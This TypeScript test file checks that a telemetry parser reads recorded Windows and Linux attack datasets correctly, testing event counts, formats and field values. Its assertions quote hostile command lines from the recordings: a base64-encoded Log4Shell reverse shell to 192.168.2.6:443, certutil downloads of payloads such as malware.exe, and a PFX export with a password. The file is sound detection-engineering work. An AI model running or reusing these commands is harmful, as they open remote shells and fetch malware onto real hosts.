// Every recorded dataset file (real Windows and Linux telemetry, ../shared/datasets) through readEventFiles:
// record counts and the key events the datasets README names. EVTX files go through the EVTX parser,
// and each .evtx must normalise to the same events as its python-evtx XML rendering beside it.
import { expect } from 'chai';
import { readdirSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { DATASETS, datasetsPresent, requireOrSkip } from '../helpers/env.js';
import { readEventFiles, detectFormat, type EventFormat } from '../../harness/telemetry/index.js';
import { loadProfile } from '../../harness/telemetry/profile.js';
import { rawValue, signalSourceOf } from '../../harness/telemetry/sources.js';
import type { NormalizedEvent, ParseWarning } from '../../harness/model/event.js';
import { readFileSync } from 'node:fs';

const stock = loadProfile('stock');

function dataFiles(dir = DATASETS): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    if (name === 'atomic-red-team') continue; // the atomics corpus is the catalog's, not telemetry
    if (statSync(p).isDirectory()) out.push(...dataFiles(p));
    else if (/\.(evtx|xml|json|jsonl|log)$/.test(name)) out.push(p);
  }
  return out.sort();
}

async function read(file: string): Promise<{ events: NormalizedEvent[]; warnings: ParseWarning[] }> {
  const warnings: ParseWarning[] = [];
  const events: NormalizedEvent[] = [];
  for await (const e of readEventFiles([file], { profile: stock, onWarning: (w) => warnings.push(w) })) events.push(e);
  return { events, warnings };
}

const ds = (rel: string): string => join(DATASETS, rel);
const countBy = (events: NormalizedEvent[]): Record<number, number> => {
  const c: Record<number, number> = {};
  for (const e of events) c[e.eventid ?? -1] = (c[e.eventid ?? -1] ?? 0) + 1;
  return c;
};
const raw = (e: NormalizedEvent, f: string): unknown => rawValue(e, f, stock);

// count, expected format, and the per-EventID counts the datasets README gives
const EXPECTED: Record<string, { count: number; format: EventFormat; eids?: Record<number, number> }> = {
  'EVTX-ATTACK-SAMPLES/AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx': { count: 122, format: 'evtx', eids: { 1: 96, 3: 8, 7: 8, 11: 5, 13: 4, 12: 1 } },
  'EVTX-ATTACK-SAMPLES/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx': { count: 565, format: 'evtx', eids: { 1: 511, 13: 30, 7: 5, 11: 4, 3: 4, 12: 3, 19: 2, 20: 2, 21: 2, 5: 1, 10: 1 } },
  'EVTX-ATTACK-SAMPLES/Privilege Escalation/Sysmon_UACME_64.evtx': { count: 530, format: 'evtx', eids: { 7: 511, 12: 7, 1: 3, 23: 3, 11: 2, 5: 2, 10: 1, 22: 1 } },
  'EVTX-ATTACK-SAMPLES/Credential Access/babyshark_mimikatz_powershell.evtx': { count: 33, format: 'evtx', eids: { 7: 11, 1: 7, 12: 4, 11: 3, 16: 2, 5: 2, 10: 2, 4: 1, 3: 1 } },
  'EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID4688,5140,5145-WMIexec execution via SMB (GLOBAL).evtx': { count: 97, format: 'evtx', eids: { 5145: 29, 5140: 19, 5447: 8, 4688: 6, 4658: 6, 4964: 5, 4672: 5, 4624: 5, 4627: 5, 4690: 3, 4656: 3, 4674: 2, 1102: 1 } },
  'EVTX-to-MITRE-Attack/TA0004-Privilege Escalation/T1574-DLL side-loading/ID4688,6416,4648-SystemNightMare.evtx': { count: 53, format: 'evtx', eids: { 4658: 20, 4656: 12, 4690: 10, 4688: 7, 6416: 2, 4648: 1, 1102: 1 } },
  'EVTX-to-MITRE-Attack/TA0005-Defense Evasion/T1140-Deobfuscate-Decode Files or Information/ID4688-Certutil download.evtx': { count: 2, format: 'evtx', eids: { 4688: 1, 1102: 1 } },
  'EVTX-to-MITRE-Attack/TA0005-Defense Evasion/T1562.004-Impair Defenses-Disable or Modify System Firewall/ID4688-5447-4950-Firewall disabled (command).evtx': { count: 998, format: 'evtx' },
  'hayabusa-sample-evtx/YamatoSecurity/Sysmon/Sysmon-27-BlockExeWrite_AbusingCertutil.evtx': { count: 7, format: 'evtx', eids: { 1: 1, 10: 1, 11: 2, 27: 3 } },
  'OTRF-Security-Datasets/atomic/linux/discovery/host/sh_arp_cache_2020-11-10074812.log': { count: 2, format: 'auditd' },
  'OTRF-Security-Datasets/atomic/windows/credential_access/host/cmd_dumping_ntds_dit_file_volume_shadow_copy.certificate-excerpt.jsonl': { count: 27, format: 'winjson' },
  'OTRF-Security-Datasets/atomic/windows/lateral_movement/host/covenant_copy_smb_CreateRequest_2020-09-22145302.json': { count: 506, format: 'winjson', eids: { 12: 245, 10: 79, 13: 76 } },
  'OTRF-Security-Datasets/atomic/windows/lateral_movement/host/covenant_dcom_iertutil_dll_hijack_2020-10-09183000.certificate-excerpt.jsonl': { count: 541, format: 'winjson' },
  'OTRF-Security-Datasets/atomic/windows/persistence/host/empire_persistence_registry_modification_run_keys_standard_user_2020-09-04030609.certificate-excerpt.jsonl': { count: 1717, format: 'winjson' },
  'OTRF-Security-Datasets/compound/Log4Shell/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json': { count: 50, format: 'auditd' },
  'OTRF-Security-Datasets/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json': { count: 93, format: 'sysmon-linux', eids: { 5: 50, 1: 31, 3: 6, 11: 4, 23: 2 } },
};

describe('recorded datasets (real events from ../shared/datasets)', function () {
  this.timeout(120_000);
  before(function () {
    requireOrSkip(this, datasetsPresent(), `datasets not found at ${DATASETS}`);
  });

  it('parses every data file with no warning, detects its format by content, and the counts match the README', async () => {
    const files = dataFiles();
    expect(files.length).to.be.greaterThan(40);
    const seen = new Set<string>();
    for (const f of files) {
      const rel = relative(DATASETS, f);
      const head = readFileSync(f).subarray(0, 65536);
      const { events, warnings } = await read(f);
      if (rel.includes('syslog_sysmon_log4shell')) {
        // one SyslogMessage was cut at the syslog line limit: kept with its complete fields, and said so
        expect(warnings.map((w) => [w.line, w.reason.startsWith('truncated Sysmon XML')]), rel).to.deep.equal([[8, true]]);
      } else expect(warnings, rel).to.deep.equal([]);
      expect(events.length, rel).to.be.greaterThan(0);
      const key = rel.replace(/\.python-evtx\.xml$/, '');
      const exp = EXPECTED[key];
      if (rel.endsWith('.python-evtx.xml')) expect(detectFormat(head), rel).to.equal('winxml');
      else if (exp) expect(detectFormat(head), rel).to.equal(exp.format);
      if (exp) {
        seen.add(key);
        expect(events.length, rel).to.equal(exp.count);
        if (exp.eids) for (const [id, n] of Object.entries(exp.eids)) expect(countBy(events)[Number(id)], `${rel} EID ${id}`).to.equal(n);
      }
      for (const e of events) {
        expect(Number.isFinite(e.devicetime) && e.devicetime > Date.UTC(2015, 0, 1), `${rel} time`).to.equal(true);
        expect(e.payload.length, rel).to.be.greaterThan(0);
      }
    }
    expect([...seen].sort()).to.deep.equal(Object.keys(EXPECTED).sort());
  });

  it('each .evtx normalises to the same events as its python-evtx XML rendering', async () => {
    for (const f of dataFiles().filter((x) => x.endsWith('.evtx'))) {
      const a = (await read(f)).events;
      const b = (await read(`${f}.python-evtx.xml`)).events;
      expect(a.length, f).to.equal(b.length);
      for (let i = 0; i < a.length; i++) {
        expect(a[i]!.eventid).to.equal(b[i]!.eventid);
        expect(a[i]!.origin.recordId).to.equal(b[i]!.origin.recordId);
        // python-evtx renders FILETIME through a float (09.042999 for 09.0430006): at most 1 ms apart
        expect(Math.abs(a[i]!.devicetime - b[i]!.devicetime)).to.be.at.most(1);
        // Rendering differences that are not content: line ends (the EVTX value keeps \r\n, an XML reader
        // normalises it to \n, XML 1.0 section 2.11), hex integers (python-evtx zero-pads 0x00000000000003e7,
        // Windows writes 0x3e7) and booleans (python-evtx True, Windows true).
        const norm = (p: string): string => p.replace(/\r\n/g, '\n').replace(/\b0x0+(?=[0-9a-fA-F])/g, '0x').replace(/\b(True|False)\b/g, (b) => b.toLowerCase());
        expect(Object.fromEntries(Object.entries(a[i]!.properties).map(([k, v]) => [k, typeof v === 'string' ? norm(v) : v])), `${f} record ${a[i]!.origin.recordId}`).to.deep.equal(Object.fromEntries(Object.entries(b[i]!.properties).map(([k, v]) => [k, typeof v === 'string' ? norm(v) : v])));
        expect(norm(a[i]!.payload)).to.equal(norm(b[i]!.payload));
      }
    }
  });

  it('SigmaHQ: certutil -addstore root (Sysmon 1) reads the same from EVTX, XML and JSON', async () => {
    const dir = 'SigmaHQ-sigma-regression_data/proc_creation_win_certutil_certificate_installation/d2125259-ddea-4c1c-9c22-977eb5b29cf0';
    for (const ext of ['.evtx', '.evtx.python-evtx.xml', '.json']) {
      const [e] = (await read(ds(dir + ext))).events;
      expect(e!.eventid).to.equal(1);
      expect(signalSourceOf(e!)).to.equal('sysmon');
      expect(e!.devicetype).to.equal(12);
      expect(e!.logsourcetypename).to.equal('Microsoft Windows Security Event Log');
      expect(raw(e!, 'CommandLine')).to.equal('certutil  -addstore -f root C:\\Users\\ADMINI~1\\AppData\\Local\\Temp\\cert.cer');
      expect(raw(e!, 'Image')).to.equal('C:\\Windows\\System32\\certutil.exe');
      expect(raw(e!, 'ParentImage')).to.equal('C:\\Windows\\System32\\cmd.exe');
      expect(raw(e!, 'OriginalFileName')).to.equal('CertUtil.exe');
      expect(raw(e!, 'IntegrityLevel')).to.equal('High');
      expect(raw(e!, 'User')).to.equal('ATTACKRANGE\\Administrator');
      expect(raw(e!, 'UtcTime')).to.equal('2025-10-25 16:54:23.866');
      expect(e!.properties['Process Path']).to.equal('C:\\Windows\\System32\\certutil.exe');
      expect(e!.properties['Process Name']).to.equal('certutil.exe');
      expect(e!.properties['Process CommandLine']).to.equal(raw(e!, 'CommandLine'));
      expect(e!.hostname).to.equal('ar-win-dc.attackrange.local');
      expect(e!.payload).to.include('Source=Microsoft-Windows-Sysmon').and.include('CommandLine: certutil  -addstore -f root');
    }
  });

  it('SigmaHQ: the other certutil command lines and the PowerShell CA-store registry write', async () => {
    const cl = async (rel: string): Promise<unknown> => raw((await read(ds(rel))).events[0]!, 'CommandLine');
    expect(await cl('SigmaHQ-sigma-regression_data/proc_creation_win_certutil_download/19b08b1c-861d-4e75-a1ef-ea0c1baf202b.evtx')).to.equal('certutil.exe  -urlcache -f https://raw.githubusercontent.com/redcanaryco/atomic-red-team/refs/heads/master/atomics/T1001.002/T1001.002.yaml atomic.yaml');
    expect(await cl('SigmaHQ-sigma-regression_data/proc_creation_win_certutil_download_direct_ip/13e6fe51-d478-4c7e-b0f2-6da9b400a829.json')).to.equal('certutil.exe  -urlcache -f http://10.0.1.14/malware.exe malware-ctl.exe');
    expect(await cl('SigmaHQ-sigma-regression_data/proc_creation_win_certutil_export_pfx/3ffd6f51-e6c1-47b7-94b4-c1e61d4117c5.evtx')).to.equal('certutil  -p secret_password -exportPFX root 1c6119aff8414c91487c4e02d18dd73D c:\\cert.pfx');
    expect(await cl('SigmaHQ-sigma-regression_data/proc_creation_win_certutil_user_store_enumeration/3b7e1f2a-84cd-4e91-b3d6-c57a902f8e34.evtx')).to.equal('certutil  -user -store Root');
    const dup = (await read(ds('SigmaHQ-sigma-regression_data/proc_creation_win_certutil_download_file_sharing_domains/42a5f1e7-9603-4f6d-97ae-3f37d130d794.evtx'))).events[0]!;
    expect(dup.origin.recordId, 'the same record as certutil_download').to.equal(11537869);
    const [reg] = (await read(ds('SigmaHQ-sigma-regression_data/registry_set_install_root_or_ca_certificat/d223b46b-5621-4037-88fe-fda32eead684.evtx'))).events;
    expect(reg!.eventid).to.equal(13);
    expect(raw(reg!, 'EventType')).to.equal('SetValue');
    expect(raw(reg!, 'TargetObject')).to.equal('HKU\\S-1-5-21-4246997345-1000708036-2014123355-1001\\Software\\Microsoft\\SystemCertificates\\CA\\Certificates\\67CB47F0FE1CE30BE53C368173B985747E9762D0\\Blob');
    expect(raw(reg!, 'Image')).to.equal('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
    expect(raw(reg!, 'Details')).to.equal('Binary Data');
    expect(raw(reg!, 'RuleName')).to.equal('technique_id=T1553.004,technique_name=Install Root Certificate');
    expect(reg!.properties['Registry Key']).to.equal(raw(reg!, 'TargetObject'));
  });

  it('EVTX-to-MITRE-Attack: Security 4688 certutil download without ParentProcessName; 4656 on ROOT\\Certificates', async () => {
    const ev = (await read(ds('EVTX-to-MITRE-Attack/TA0005-Defense Evasion/T1140-Deobfuscate-Decode Files or Information/ID4688-Certutil download.evtx'))).events.find((e) => e.eventid === 4688)!;
    expect(signalSourceOf(ev)).to.equal('security');
    expect(ev.hostname).to.equal('fs03vuln.offsec.lan');
    expect(raw(ev, 'NewProcessName')).to.equal('C:\\Windows\\System32\\certutil.exe');
    expect(String(raw(ev, 'CommandLine'))).to.match(/^certutil {2}-urlcache -split -f https:\/\/github\.com\/mdecrevoisier\/EVTX-to-MITRE-Attack\/blob\/master\/.*\.evtx virus\.exe$/);
    expect(raw(ev, 'SubjectUserName')).to.equal('admmig');
    expect(raw(ev, 'TokenElevationType')).to.equal('%%1937');
    expect(raw(ev, 'ParentProcessName')).to.equal(null);
    expect(new Date(ev.devicetime).toISOString().slice(0, 19)).to.equal('2021-11-02T14:15:24');
    const wmi = (await read(ds('EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID4688,5140,5145-WMIexec execution via SMB (GLOBAL).evtx'))).events;
    const roots = wmi.filter((e) => e.eventid === 4656 && /SystemCertificates\\ROOT\\Certificates$/i.test(String(raw(e, 'ObjectName'))));
    expect(roots.length).to.be.greaterThan(0);
    expect(raw(roots[0]!, 'ProcessName')).to.equal('C:\\Windows\\System32\\cscript.exe');
    const nm = (await read(ds('EVTX-to-MITRE-Attack/TA0004-Privilege Escalation/T1574-DLL side-loading/ID4688,6416,4648-SystemNightMare.evtx'))).events;
    expect(nm.filter((e) => e.eventid === 4656 && raw(e, 'ProcessName') === 'C:\\Windows\\System32\\drvinst.exe' && /SystemCertificates\\Root\\Certificates$/i.test(String(raw(e, 'ObjectName'))))).to.have.length(4);
  });

  it('EVTX-ATTACK-SAMPLES and hayabusa: certutil -urlcache with its network events, renamed certutil, benign CreateKey', async () => {
    const edr = (await read(ds('EVTX-ATTACK-SAMPLES/AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx'))).events;
    const r4980 = edr.find((e) => e.origin.recordId === 4980)!;
    expect(raw(r4980, 'Image')).to.equal('C:\\Windows\\System32\\certutil.exe');
    expect(String(raw(r4980, 'CommandLine'))).to.match(/^certutil\.exe {2}-urlcache -split -f https:\/\/raw\.githubusercontent\.com\/.*CradleTest\.txt Default_File_Path2\.ps1 {2}$/);
    const net = edr.filter((e) => e.eventid === 3 && raw(e, 'Image') === 'C:\\Windows\\System32\\certutil.exe');
    // Boolean rendering: python-evtx writes True, Windows' own XML writes true
    expect(net.map((e) => [raw(e, 'DestinationIp'), raw(e, 'DestinationPort'), String(raw(e, 'Initiated')).toLowerCase()])).to.deep.equal([['151.101.0.133', '443', 'true'], ['151.101.0.133', '443', 'true']]);
    const art = (await read(ds('EVTX-ATTACK-SAMPLES/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx'))).events;
    const renamed = art.find((e) => e.origin.recordId === 4070)!;
    expect(raw(renamed, 'Description')).to.equal('CertUtil.exe');
    expect(String(raw(renamed, 'Image'))).to.match(/Temptcm\.tmp$/);
    const uac = (await read(ds('EVTX-ATTACK-SAMPLES/Privilege Escalation/Sysmon_UACME_64.evtx'))).events.filter((e) => e.eventid === 12);
    expect(uac.filter((e) => raw(e, 'EventType') === 'CreateKey' && raw(e, 'RuleName') === 'technique_id=T1130,technique_name=Install Root Certificate')).to.have.length(7);
    expect(uac.filter((e) => raw(e, 'Image') === 'C:\\Windows\\system32\\consent.exe')).to.have.length(4);
    const hb = (await read(ds('hayabusa-sample-evtx/YamatoSecurity/Sysmon/Sysmon-27-BlockExeWrite_AbusingCertutil.evtx'))).events;
    expect(raw(hb.find((e) => e.eventid === 1)!, 'CommandLine')).to.equal('"C:\\Windows\\system32\\certutil.exe" -urlcache -split -f http://192.168.158.128:8000/calc.exe C:\\Users\\user\\Desktop\\calc.exe');
  });

  it('OTRF (NXLog JSON): the svchost AuthRoot write, certutil -store enumeration, and the NXLog quirks', async () => {
    const dcom = (await read(ds('OTRF-Security-Datasets/atomic/windows/lateral_movement/host/covenant_dcom_iertutil_dll_hijack_2020-10-09183000.certificate-excerpt.jsonl'))).events;
    const auth = dcom.filter((e) => e.eventid === 13 && raw(e, 'TargetObject') === 'HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\AuthRoot\\Certificates\\AD7E1C28B064EF8F6003402014C3D0E3370EB58A\\Blob');
    expect(auth).to.have.length(1);
    expect(raw(auth[0]!, 'Image')).to.equal('C:\\windows\\system32\\svchost.exe');
    expect(raw(auth[0]!, 'EventType')).to.equal('SetValue');
    expect(raw(auth[0]!, 'Details')).to.equal('Binary Data');
    expect(auth[0]!.hostname).to.match(/^WORKSTATION5/i);
    expect(new Date(auth[0]!.devicetime).toISOString()).to.equal('2020-10-09T22:27:56.436Z'); // UtcTime, not @timestamp
    const emp = (await read(ds('OTRF-Security-Datasets/atomic/windows/persistence/host/empire_persistence_registry_modification_run_keys_standard_user_2020-09-04030609.certificate-excerpt.jsonl'))).events;
    const cert = emp.filter((e) => e.eventid === 4688 && raw(e, 'NewProcessName') === 'C:\\Windows\\System32\\certutil.exe').map((e) => raw(e, 'CommandLine'));
    for (const c of ['certutil  -v -store -silent My ', 'certutil  -v -store -silent -user My ', 'certutil  -v -store -silent root ', 'certutil  -v -enterprise -store -silent NTAuth ', 'certutil  -v -user -store -silent root ']) expect(cert).to.include(c);
    const sec = emp.filter((e) => e.eventid === 4688);
    expect(new Set(sec.map((e) => e.origin.channel))).to.deep.equal(new Set(['Security'])); // `security` and `Security` both in the source
    expect(sec.every((e) => signalSourceOf(e) === 'security')).to.equal(true);
    const cmd = sec.find((e) => String(raw(e, 'CommandLine')).includes('certutil -v -store -silent My'))!;
    expect(raw(cmd, 'CommandLine')).to.equal('"C:\\Windows\\System32\\cmd.exe" /c certutil -v -store -silent My >> config\\envinfo.txt'); // &gt;&gt; decoded
    // EventTime is the collector's local time (EDT); the UTC instant is 07:09:06Z
    expect(new Date(cmd.devicetime).toISOString()).to.equal('2020-09-04T07:09:06.000Z');
    const smb = (await read(ds('OTRF-Security-Datasets/atomic/windows/lateral_movement/host/covenant_copy_smb_CreateRequest_2020-09-22145302.json'))).events;
    const missing = smb.filter((e) => e.eventid === 12 && raw(e, 'EventType') === null);
    expect(missing.length, 'Sysmon 12 whose EventType NXLog overwrote (kept as EventTypeOrignal=INFO)').to.be.greaterThan(0);
    expect(smb.filter((e) => e.eventid === 12 && raw(e, 'Image') === 'C:\\windows\\system32\\lsass.exe' && String(raw(e, 'TargetObject')).includes('SystemCertificates'))).to.have.length(108);
    const ntds = (await read(ds('OTRF-Security-Datasets/atomic/windows/credential_access/host/cmd_dumping_ntds_dit_file_volume_shadow_copy.certificate-excerpt.jsonl'))).events;
    expect(ntds.filter((e) => e.eventid === 13 && String(raw(e, 'TargetObject')).startsWith('HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\Windows Live ID Token Issuer\\Certificates\\') && raw(e, 'User') === 'NT AUTHORITY\\SYSTEM')).to.have.length(2);
  });

  it('OTRF Linux: raw audit.log, AUOMS auditd and Sysmon for Linux', async () => {
    const arp = (await read(ds('OTRF-Security-Datasets/atomic/linux/discovery/host/sh_arp_cache_2020-11-10074812.log'))).events;
    expect(arp.map((e) => e.properties.cmdline)).to.deep.equal(['arp -a', "grep -v '^?'"]);
    expect(arp[0]!.properties).to.include({ exe: '/usr/sbin/arp', comm: 'arp', cwd: '/home/wardog', pid: 1631, ppid: 29002, uid: 1000, auid: 1000, syscall: 59, success: 'yes', type: 'EXECVE', Type: 'EXECVE', Command: 'arp -a', argc: 2, a0: 'arp', a1: '-a' });
    expect(arp[0]!.devicetype).to.equal(11);
    expect(arp[0]!.devicetime).to.equal(1604994496155);
    expect(arp[0]!.payload.split('\n')).to.have.length(6);
    const auoms = (await read(ds('OTRF-Security-Datasets/compound/Log4Shell/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json'))).events;
    expect(auoms.every((e) => signalSourceOf(e) === 'auditd' && e.hostname === 'UBUNTU5')).to.equal(true);
    expect(auoms.map((e) => e.properties.cmdline)).to.include('bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"');
    expect(auoms.every((e) => e.properties.a0 === undefined), 'AUOMS a0..a3 are syscall registers, never argv').to.equal(true);
    const sl = (await read(ds('OTRF-Security-Datasets/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json'))).events;
    expect(sl.every((e) => signalSourceOf(e) === 'sysmon-linux' && e.devicetype === 11)).to.equal(true);
    const bash = sl.find((e) => e.eventid === 1 && raw(e, 'Image') === '/bin/bash' && String(raw(e, 'CommandLine')).startsWith('bash -c {echo,'))!;
    expect(raw(bash, 'User')).to.equal('tomcat');
    expect(raw(bash, 'ParentImage')).to.equal('/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java');
    expect(bash.sourceip).to.equal('192.168.2.5');
  });
});
